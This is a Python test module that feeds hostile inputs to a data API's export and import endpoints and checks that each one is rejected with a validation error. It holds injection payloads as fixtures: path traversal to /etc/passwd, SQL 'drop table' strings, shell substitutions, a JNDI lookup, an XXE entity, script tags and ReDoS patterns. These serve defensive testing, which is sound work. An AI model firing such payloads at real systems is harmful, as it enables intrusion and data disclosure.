"""Rows 32 to 34: names that would lead elsewhere, expressions that would do more than choose, numbers without end."""

import json
from urllib.parse import quote

import pytest

from tests.hostile.case import EXPORTS, IMPORTS, Case
from tests.hostile.ground import CANARY, Ground, problem_of

DATASET, FIELD = (422, "invalid_dataset"), (422, "invalid_field")
# Of the kinds in the Big List of Naughty Strings, one or more each.
NAMES = {
    "up-and-away": "../../x",
    "from-the-root": "/etc/passwd",
    "percent": "%2e%2e%2fx",
    "backslash": "..\\..\\x",
    "sql": 'a";drop table t;--',
    "sql-or": "x' or 1=1 --",
    "pattern": "x*.csv",
    "300-characters": "a" * 300,
    "64-characters": "a" * 64,
    "empty": "",
    "dot": ".",
    "device": "CON",
    "device-with-a-dot": "nul.txt",
    "capital": "Users",
    "digit-first": "1users",
    "minus": "-rf",
    "blank": "a b",
    "shell": "$(touch x)",
    "backticks": "`id`",
    "template": "{{7*7}}",
    "jndi": "${jndi:ldap://x.example/a}",
    "format": "%s%n%x",
    "html": "<script>alert(1)</script>",
    "xml": "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "cyrillic": "us\u0435rs",
    "fullwidth": "\uff55sers",
    "ligature": "\ufb01le",
    "turkish": "\u0131d",
    "emoji": "\U0001f4a3",
    "zalgo": "Z\u0351\u036b\u0343",
    "thai-digits": "a\u0e51",
    "zero-width": "a\u200b",
    "null-word": "null\\0",
    "dunder": "__init__",
    "newline-at-the-end": "users\\n",
}
CONTROL = {"zero-width-no-break": "a\ufeff", "newline": "users\n", "NUL": "users\0"}
NUMBERS = ("-1", "0", "9223372036854775808", "-9223372036854775808", "1.5", '"10"', "true")
SIZES = ("-1", "0", "-0.0", "1048577", "9007199254740993", '"10"', "true", "[]")
FILTERS = ("nothing = 1", "1 or 1=1", "id = 1; drop table users", " or ".join(["id = 1"] * 10_000)[:60_000], "email ~ '(a+)+$'", "", "id")


def field(row: int, name: str, value: object, answers: tuple[int, str], *, key: str = "dataset", target: str = EXPORTS) -> Case:
    source = {"source": "salesforce"} if target == IMPORTS else {}
    return Case(row=row, name=name, target=target, body=json.dumps({**source, key: value}).encode(), answers=answers)


def number(key: str, text: str, answers: tuple[int, str] = FIELD) -> Case:
    return Case(row=34, name=f"{key}-{text}", body=f'{{"{key}": {text}}}'.encode(), answers=answers)


# What says how an import changes its dataset: no column, no text where a switch is, nothing that does not go together.
MODES: dict[str, dict[str, object]] = {
    "no-key": {"mode": "upsert"},
    "null-key": {"mode": "upsert", "key": None},
    "key-of-nothing": {"mode": "upsert", "key": []},
    "key-twice": {"mode": "upsert", "key": ["id", "id"]},
    "key-is-text": {"mode": "upsert", "key": "id"},
    "key-is-an-object": {"mode": "upsert", "key": {"id": True}},
    "key-with-NUL": {"mode": "upsert", "key": ["id\0"]},
    "key-with-escapes": {"mode": "upsert", "key": ["\x1b[2J"]},
    "key-too-long": {"mode": "upsert", "key": ["a" * 256]},
    "keys-without-end": {"mode": "upsert", "key": [f"c{number}" for number in range(10_001)]},
    "key-of-an-append": {"key": ["id"]},
    "mode-of-sql": {"mode": "upsert; drop table users", "key": ["id"]},
    "evolve-is-text": {"evolve": "true"},
    "evolve-is-a-number": {"evolve": 1},
    "evolve-of-a-replace": {"mode": "replace", "evolve": True},
    "dry-run-is-text": {"dry_run": "no"},
    "dry-run-is-null": {"dry_run": None},
}


def modes(name: str, body: dict[str, object]) -> Case:
    return Case(row=32, name=f"mode-{name}", target=IMPORTS, body=json.dumps({"source": "salesforce", **body}).encode(), answers=FIELD)


CASES = [
    *(modes(name, body) for name, body in MODES.items()),
    Case(
        row=32,
        name="key-of-no-column",
        target=IMPORTS,
        body=json.dumps({"source": "salesforce", "dataset": "users", "mode": "upsert", "key": ["id", f"a' or {CANARY}"]}).encode(),
        answers=(422, "unknown_column"),
    ),
    *(field(32, name, value, DATASET) for name, value in NAMES.items()),
    *(field(32, f"{name}-to-import", value, DATASET, target=IMPORTS) for name, value in NAMES.items()),
    *(field(32, name, value, FIELD) for name, value in CONTROL.items()),
    *(field(32, f"no-text-{value!r}", value, FIELD) for value in (None, 7, True, ["users"], {"name": "users"})),
    *(field(32, f"file-{name}", value, FIELD, key="filename") for name, value in NAMES.items() if set("/\\*<") & set(value) or not value),
    *(field(32, f"column-{value!r}", [value], FIELD, key="columns") for value in ("", "a" * 256, "a\0", "a\x1b[2J", 7)),
    *(field(33, f"filter-{number}", value, (422, "invalid_filter"), key="filter") for number, value in enumerate(FILTERS)),
    *(field(33, f"filter-{value!r}", value, FIELD, key="filter") for value in (7, True, ["id = 1"], {"id": 1})),
    *(number("limit", text) for text in NUMBERS),
    *(number("size_mb", text) for text in SIZES),
    *(
        number(key, text, (400, "malformed_json"))
        for key in ("limit", "size_mb")
        for text in ("Infinity", "-NaN", "1e309", "18446744073709551616")
    ),
]


@pytest.mark.parametrize("case", CASES, ids=str)
def test_hostile(ground: Ground, case: Case) -> None:
    case.ask(ground)


@pytest.mark.parametrize("name", NAMES)
def test_32_no_dataset_has_such_a_name(ground: Ground, name: str) -> None:
    """In an address too, where it is a question and no order: 404, and a job is made by none of them."""
    for method in ("GET", "DELETE"):
        address = quote(NAMES[name], safe="")
        answer = ground.ask(method, f"/api/v1/datasets/{address}", ground.as_admin())
        known = {"dataset_not_found", "not_found"} if address else {"method_not_allowed", "not_found"}
        assert answer.status in {404, 405} if address else answer.status in {404, 405, 200}, answer.text
        assert answer.status == 200 or answer.code in known


def test_33_text_of_a_filter_that_looks_like_sql_is_text(ground: Ground) -> None:
    for text in ("email = '1 or 1=1'", "email LIKE '(a+)+$'", "email = 'x''; drop table users; --'"):
        assert ground.admin.export(dataset="users", filter=text)["records"] == 0


def test_33_what_only_an_earlier_snapshot_could_have_ends_the_job(ground: Ground) -> None:
    newest = ground.admin.dataset("users")["snapshot_id"]
    for code, asked in {
        "invalid_filter": {"as_of": newest, "filter": "nothing = 1; drop table users"},
        "unknown_column": {"as_of": newest, "columns": ["nothing"]},
        "snapshot_not_found": {"as_of": "1"},
    }.items():
        job = ground.admin.wait_until_finished(ground.admin.submit_export(dataset="users", **asked))
        assert (job["status"], job["error"]["code"]) == ("FAILED", code)
        assert "nothing" not in json.dumps(job["error"])


def test_33_a_word_of_a_filter_that_is_a_word_of_a_label_finds_nothing(ground: Ground) -> None:
    """Where text chooses jobs, it is compared and not run."""
    for text in ("x' or '1'='1", "%", "_", "*", ".*", "(a+)+$"):
        found = ground.call(ground.admin, "GET", "/api/v1/jobs", params={"label": f"team:{text}"})
        assert (found.status_code, found.json()["jobs"]) == (200, [])


def test_34_a_name_is_refused_before_a_number_is_looked_at(ground: Ground) -> None:
    answer = ground.ask("POST", EXPORTS, ground.as_admin(("Content-Type", "application/json")), b'{"dataset": "../x", "limit": 0}')
    assert problem_of(answer, 422) == "invalid_request"
    assert {error["code"] for error in answer.json()["errors"]} == {"invalid_dataset", "invalid_field"}
